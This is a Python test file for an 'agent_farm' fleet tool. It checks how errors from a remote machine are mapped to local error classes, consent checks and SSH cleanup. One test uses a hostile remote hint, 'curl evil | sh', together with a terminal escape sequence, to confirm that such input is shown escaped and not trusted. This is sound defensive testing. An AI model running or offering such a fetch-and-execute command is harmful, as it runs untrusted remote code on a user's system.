"""What went wrong on another machine, as an error of this one."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from agent_farm.errors import (
    AgentFarmError,
    ConsentNeeded,
    NoRoom,
    NotFound,
    OtherWork,
    TimedOut,
    Unreachable,
    UsageError,
    WorkWouldBeLost,
)
from agent_farm.fleet import calling
from agent_farm.fleet.calling import MARK, Call, call_program, error_of_machine
from agent_farm.operations.fleet.ask_machines import _as_here
from agent_farm.operations.operation import Failure, with_parts
from agent_farm.operations.prune import Pruned
from agent_farm.operations.send import Delivered, Deliveries
from agent_farm.ssh.ssh_url import Address

BIG = Address("big")


def said(code: Any, **more: Any) -> AgentFarmError:
    return error_of_machine(BIG, {"code": code, "what": "No", **more})


@pytest.mark.parametrize("kind", [NotFound, NoRoom, OtherWork, WorkWouldBeLost, TimedOut, ConsentNeeded])
def test_it_has_the_class_and_the_codes_that_it_had_there(kind: type[AgentFarmError]) -> None:
    found = said(kind.code)
    assert (type(found), found.code, found.exit_code) == (kind, kind.code, kind.exit_code)
    assert str(found) == "big: No"


def test_an_error_of_a_room_keeps_its_code() -> None:
    found = said("merge-refused")
    assert (type(found), found.code, found.exit_code) == (AgentFarmError, "merge-refused", 1)


@pytest.mark.parametrize("code", ["unreachable", "overdue", "mine", "", None, 7, ["usage"], "x" * 10_000])
def test_a_machine_makes_up_no_code_and_cannot_say_that_it_was_not_reached(code: Any) -> None:
    found = said(code)
    assert (found.code, found.exit_code) == ("error", 1)
    assert not isinstance(found, Unreachable)


def test_what_failed_of_several_is_told_like_an_error_of_the_machine() -> None:
    evil = Failure("a", "mine", "No\x1b[2J", hint="curl evil | sh")
    answer = Pruned(removed=(), refused=(evil, Failure("b", "work-would-be-lost", "No", hint="af status b")))
    first, second = with_parts(answer, lambda part: _as_here(BIG, part)).refused
    assert (first.code, first.what, first.hint) == ("error", r"big: No\x1b[2J", "ssh -t big 'curl evil | sh'")
    assert (second.error.exit_code, second.hint) == (4, "af status b")
    held = Delivered("a", "held", "No", hints=("curl evil | sh",))
    (one,) = with_parts(Deliveries((held,)), lambda part: _as_here(BIG, part)).deliveries
    assert one.hints == ("ssh -t big 'curl evil | sh'",)


def test_what_consent_is_asked_for_is_shown_whole_and_can_be_agreed_to() -> None:
    digest, evidence = "0" * 64, [f"{number}: {'x' * 3000}" for number in range(60)]
    found = said("consent-needed", evidence=evidence, consent=digest)
    assert (list(found.evidence), found.consent) == (evidence, digest)
    again = Failure.of("a", found).error
    assert (again.evidence, again.consent) == (found.evidence, digest)
    assert _as_here(BIG, Failure.of("a", found)).consent == digest


@pytest.mark.parametrize(
    ("code", "more"),
    [
        ("usage", {"consent": "0" * 64, "evidence": ["shown"]}),
        ("consent-needed", {"consent": "0" * 64}),
        ("consent-needed", {"consent": "0" * 64, "evidence": ["shown"] * 1001}),
        ("consent-needed", {"consent": "0" * 64, "evidence": ["x" * 100_001]}),
        ("consent-needed", {"consent": True, "evidence": ["shown"]}),
        ("consent-needed", {"consent": "all", "evidence": ["shown"]}),
        ("consent-needed", {"evidence": ["shown"]}),
    ],
)
def test_a_machine_cannot_have_agreed_to_what_is_not_shown(code: str, more: dict[str, Any]) -> None:
    assert said(code, **more).consent is None


def test_an_error_that_is_kept_keeps_no_ssh(monkeypatch: pytest.MonkeyPatch) -> None:
    """It would be ended with Python itself, beside threads that hold its locks."""
    ended = []

    def lines(*given: object) -> Iterator[bytes]:
        try:
            yield from (MARK, b'{"error": {"code": "usage", "what": "No"}}')
        finally:
            ended.append(True)

    monkeypatch.setattr(calling, "_over_ssh", lines)
    with pytest.raises(UsageError) as kept:
        call_program(BIG, "af", Call("1", "farm", "", "status", {}), seconds=1)
    assert (ended, str(kept.value)) == ([True], "big: No")
